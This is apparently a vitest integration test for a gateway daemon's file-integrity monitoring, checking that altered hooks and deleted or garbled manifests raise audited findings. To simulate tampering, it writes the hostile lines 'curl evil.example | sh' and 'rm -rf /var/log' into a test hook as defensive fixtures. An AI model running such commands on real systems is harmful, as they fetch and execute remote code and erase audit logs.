import { appendFileSync, existsSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { controlCall } from "../../../agent/core/control-client";
import { BIN } from "../../helpers/cli";
import { Daemon } from "../../helpers/daemon";
import { until } from "../../helpers/fixture";
import { runAsync } from "./_rauc";
import { updateSite } from "./_site";

const INTERVAL = 2000;

describe("self-integrity", () => {
  const cleanups: (() => Promise<void> | void)[] = [];
  let s: Awaited<ReturnType<typeof updateSite>>;
  let daemon: Daemon;
  let hooks: string;

  beforeAll(async () => {
    s = await updateSite(cleanups);
    hooks = join(s.root, "hooks");
    mkdirSync(hooks);
    writeFileSync(join(hooks, "pre-install"), "#!/bin/sh\nexit 0\n");
    appendFileSync(s.site.cfgFile, `integrity:\n  interval_ms: ${INTERVAL}\n  paths: [${hooks}]\n`);
    daemon = new Daemon(s.site.cfgFile);
    cleanups.push(async () => void (await daemon.stop()));
  });
  afterAll(async () => {
    for (const c of cleanups.reverse()) await c();
  });

  const events = () => s.lines.filter((l) => !("problem" in l)) as unknown as { class: string; time: number; ocsf: { class_uid: number; message: string; unmapped?: { integrity?: { changed?: string[]; added?: string[] } } } }[];
  const gw = (args: string[]) => runAsync(process.execPath, [BIN, ...args, "--config", s.site.cfgFile], process.env);

  it("takes the first manifest at start (audited); a changed hook is a signed finding within one interval", async () => {
    await until(() => events().some((e) => /Integrity manifest accepted by the daemon/.test(e.ocsf.message)), 20_000, "the first manifest's audit event");
    expect((await gw(["integrity", "check"])).status).toBe(0);
    const t0 = Date.now();
    appendFileSync(join(hooks, "pre-install"), "curl evil.example | sh\n");
    writeFileSync(join(hooks, "new-hook"), "#!/bin/sh\n");
    await until(() => events().some((e) => e.class === "finding" && /Integrity drift/.test(e.ocsf.message)), 20_000, "the drift finding at the SOC");
    const f = events().find((e) => e.class === "finding" && /Integrity drift/.test(e.ocsf.message))!;
    expect(f.ocsf.class_uid).toBe(2004);
    expect(f.ocsf.unmapped?.integrity?.changed).toEqual([join(hooks, "pre-install")]);
    expect(f.ocsf.unmapped?.integrity?.added).toEqual([join(hooks, "new-hook")]);
    // Measured by the daemon's timer: within one interval (plus scheduling slack on a loaded machine).
    expect(f.time - t0).toBeLessThan(INTERVAL + 1500);
    const c = await gw(["integrity", "check", "--json"]);
    expect(c.status).toBe(1);
    expect(JSON.parse(c.stdout)).toMatchObject({ state: "drift", drift: { changed: [join(hooks, "pre-install")], added: [join(hooks, "new-hook")], missing: [] } });
  });

  it("integrity accept makes the change the manifest, audited; the daemon agrees at once", async () => {
    const a = await gw(["integrity", "accept", "--json"]);
    expect(a.status, a.stderr).toBe(0);
    expect(JSON.parse(a.stdout)).toMatchObject({ event: { via: "daemon" }, drift: { changed: [join(hooks, "pre-install")] } });
    await until(() => events().some((e) => e.class === "audit" && /Integrity manifest accepted by .*integrity accept/.test(e.ocsf.message)), 20_000, "the accept audit event");
    expect((await gw(["integrity", "check"])).status).toBe(0);
    const st = (await controlCall(join(s.site.gwDir, "data", "gatewarden.sock"), "integrity.status")) as { state: string };
    expect(st.state).toBe("ok");
    expect(s.problems()).toEqual([]);
  });

  it("a manifest deleted or garbled while the daemon runs is a finding; it is not taken afresh", async () => {
    const manifest = join(s.site.gwDir, "data", "integrity.json");
    const accepted = () => events().filter((e) => /Integrity manifest accepted by the daemon/.test(e.ocsf.message)).length;
    const acceptedBefore = accepted();
    // Someone removes the manifest, then changes a hook: taken afresh, the change would be the reference.
    rmSync(manifest);
    appendFileSync(join(hooks, "pre-install"), "rm -rf /var/log\n");
    await until(() => events().some((e) => e.class === "finding" && /^Integrity manifest .* is gone while the daemon runs/.test(e.ocsf.message)), 20_000, "the finding for the deleted manifest");
    expect(accepted()).toBe(acceptedBefore);
    expect(existsSync(manifest)).toBe(false);
    const st = (await controlCall(join(s.site.gwDir, "data", "gatewarden.sock"), "integrity.status")) as { state: string };
    expect(st.state).toBe("no_manifest");
    // Garbled instead: every later measurement fails; one finding naming the file.
    writeFileSync(manifest, "{ not json");
    await until(() => events().some((e) => e.class === "finding" && /^Integrity cannot be measured: .*integrity manifest .*integrity\.json is not readable JSON/.test(e.ocsf.message)), 20_000, "the finding for the garbled manifest");
    const c = await gw(["integrity", "check", "--json"]);
    expect(c.status).not.toBe(0);
    // An operator accepts the current files: audited, and the daemon measures against them again.
    expect((await gw(["integrity", "accept"])).status).toBe(0);
    expect((await gw(["integrity", "check"])).status).toBe(0);
    const n = events().filter((e) => /^Integrity cannot be measured/.test(e.ocsf.message)).length;
    expect(n).toBe(1);
    expect(s.problems()).toEqual([]);
  });

  it("no manifest when a gateway that ran before starts again: taken, and a finding says so", async () => {
    const missingAtStart = () => events().filter((e) => e.class === "finding" && /^No integrity manifest .* at start, though this gateway ran before \(previous boot \d+\)/.test(e.ocsf.message));
    expect(missingAtStart()).toEqual([]); // not at the gateway's first start
    await daemon.stop();
    rmSync(join(s.site.gwDir, "data", "integrity.json"));
    appendFileSync(join(hooks, "pre-install"), "# changed while the daemon was stopped\n");
    daemon = new Daemon(s.site.cfgFile);
    await until(() => missingAtStart().length > 0, 30_000, "the finding for the manifest missing at start");
    expect(missingAtStart()).toHaveLength(1);
    expect((await gw(["integrity", "check"])).status).toBe(0); // the current files are the manifest now
    expect(s.problems()).toEqual([]);
  });
});
